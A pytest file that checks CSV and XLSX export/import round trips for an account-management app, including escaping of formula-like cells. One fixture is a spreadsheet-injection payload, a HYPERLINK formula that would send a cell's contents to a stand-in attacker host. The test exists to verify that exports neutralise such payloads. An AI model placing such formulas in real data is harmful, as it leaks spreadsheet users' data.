"""Seams between the exporter and the importer, through the real downloads: text a spreadsheet would run
as a formula (and text typed with an apostrophe before such a start) in the CSV account list, the
exporter's CSV (UTF-8 with BOM) read by the importer's encoding detection, archived accounts in the list,
and a stakeholders sheet holding several accounts."""
from __future__ import annotations

from sqlalchemy import select

from models import Account, UserRole

from .exports_support import csv_rows
from .import_support import csv_bytes, headers, run

TYPED = {  # account name → description, as typed (kept exactly by the round trip)
    "公式客户": "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "撇号客户": "'=1+2 是用户自己输入的撇号",
    "双撇号客户": "''-5% 同上",
    "普通撇号客户": "'普通文字",
}


def _descriptions(app) -> dict[str, str]:
    with app.test_request_context():
        from kb.db import session

        accounts = session.scalars(select(Account).where(Account.name.in_(TYPED)))
        return {a.name: a.description for a in accounts}


def test_formula_like_and_apostrophe_text_reads_back_from_the_csv_export_as_typed(
        app, client, login_as, create_user, create_account, tmp_path):
    admin = create_user(role=UserRole.ADMIN)
    for name, text in TYPED.items():
        create_account(name=name, description=text, region="+86 华东", aliases=["@中移"])
    login_as(admin)
    response = client.get("/accounts/export.csv")
    rows = csv_rows(response)
    column = rows[0].index("description")
    written = {r[rows[0].index("name")]: r[column] for r in rows[1:]}
    assert written == {"公式客户": "'" + TYPED["公式客户"], "撇号客户": "''=1+2 是用户自己输入的撇号",
                       "双撇号客户": "'''-5% 同上", "普通撇号客户": "'普通文字"}  # no cell starts a formula
    assert {r[rows[0].index("region")] for r in rows[1:]} == {"'+86 华东"}
    report = run(app, tmp_path, response.data, kind="accounts", author=admin, name="accounts.csv")
    assert report.ok, report.problems
    assert (report.created, report.updated, report.unchanged) == (0, 0, 4)  # every cell read back as typed
    assert report.encoding == "utf-8-sig"
    assert _descriptions(app) == TYPED


def test_archived_accounts_are_in_the_list_export_on_request_and_reimport_unchanged(
        app, client, login_as, create_user, create_account, tmp_path):
    from datetime import datetime, timezone

    admin = create_user(role=UserRole.ADMIN)
    create_account(name="在用客户")
    create_account(name="归档客户", archived_at=datetime(2026, 6, 30, tzinfo=timezone.utc))
    login_as(admin)
    names = [r[1] for r in csv_rows(client.get("/accounts/export.csv"))[1:]]
    assert names == ["在用客户"]
    response = client.get("/accounts/export.xlsx?archived=1")
    report = run(app, tmp_path, response.data, kind="accounts", author=admin, name="accounts.xlsx")
    assert report.ok, report.problems
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)


def test_one_stakeholder_sheet_with_several_accounts_imports_each_row_into_its_account(
        app, create_user, create_account, tmp_path):
    admin = create_user(role=UserRole.ADMIN)
    create_account(name="甲客户")
    create_account(name="乙客户")
    rows = [headers("stakeholders", ["account", "name", "reports_to"]),
            ["甲客户", "张总", ""], ["乙客户", "张总", ""], ["乙客户", "李工", "张总"]]
    report = run(app, tmp_path, b"\xef\xbb\xbf" + csv_bytes(rows), kind="stakeholders", author=admin)
    assert report.ok, report.problems
    assert report.created == 3
    with app.test_request_context():
        from kb.db import session
        from models import Stakeholder

        li = session.scalar(select(Stakeholder).where(Stakeholder.name == "李工"))
        assert (li.account.name, li.reports_to.account.name) == ("乙客户", "乙客户")


def _visits(app, account_id):
    with app.test_request_context():
        from kb.db import session
        from models import Interaction

        return sorted((i.id, i.summary, [s.text for s in i.next_steps]) for i in session.scalars(
            select(Interaction).where(Interaction.account_id == account_id)))


def test_two_visits_of_one_day_with_one_title_reimport_from_the_export_unchanged(
        app, client, login_as, create_user, create_account, create_interaction, tmp_path):
    from datetime import date

    admin = create_user(role=UserRole.ADMIN)
    account = create_account(name="甲客户")
    create_interaction(account, title="电话沟通", occurred_on=date(2026, 9, 1), summary="上午：确认需求")
    create_interaction(account, title="电话沟通", occurred_on=date(2026, 9, 1), summary="下午：报价",
                       next_steps=[{"text": "发送报价单"}])
    before = _visits(app, account.id)
    login_as(admin)
    data = client.get(f"/accounts/{account.id}/export.xlsx").data
    for dry_run in (True, False):
        report = run(app, tmp_path, data, kind="interactions", author=admin, name="a.xlsx", dry_run=dry_run)
        assert report.ok, getattr(report, "report", report)
        assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert _visits(app, account.id) == before
